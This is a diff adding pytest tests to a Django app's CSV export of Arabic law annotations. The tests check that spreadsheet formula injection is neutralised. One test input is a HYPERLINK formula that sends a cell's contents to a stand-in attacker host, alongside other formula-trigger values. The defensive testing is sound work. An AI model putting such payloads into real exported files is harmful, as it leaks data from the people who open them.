@@ -232,3 +232,37 @@ def test_csv_of_a_queryset_of_annotations(annotated: Annotated) -> None:
 
     assert [row["eid"] for row in rows] == ["art_2__para_1", "art_3"]
     assert rows[0]["article"] == "2"  # the article the paragraph belongs to; its eid says which paragraph
+
+
+# Formula injection (issue 13) ----------------------------------------------------------------------------------
+
+INJECTIONS = ['=HYPERLINK("https://evil.example/?x="&A1,"انقر")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("value", INJECTIONS)
+def test_csv_cells_a_spreadsheet_would_run_come_out_as_text(annotated: Annotated, admin_client, value: str) -> None:
+    Annotation.objects.filter(pk=annotated.public.pk).update(commentary=value, recommendation=value + " توصية")
+    annotated.law.title_ar = value
+    annotated.law.number = ""
+    annotated.law.year = None
+    annotated.law.save()
+
+    response = admin_client.get(reverse("reviews_export_csv", args=[annotated.law.pk]))
+
+    assert response.content.count(b"\xef\xbb\xbf") == 1
+    rows = read_csv(response.content)
+    first = next(row for row in rows if row["public"] == "yes")
+    assert first["commentary"] == "'" + value
+    assert first["recommendation"] == "'" + value + " توصية"
+    assert first["law"] == "'" + value
+    assert first["quote"] == "أخباراً كاذبة"  # Arabic intact
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
+
+
+def test_compliance_csv_has_one_bom_and_no_formula(annotated: Annotated, admin_client) -> None:
+    response = admin_client.get(reverse("reviews_compliance_csv", args=[annotated.law.pk]))
+
+    assert response.content.startswith(b"\xef\xbb\xbf") and response.content.count(b"\xef\xbb\xbf") == 1
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert len(rows) > 1
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
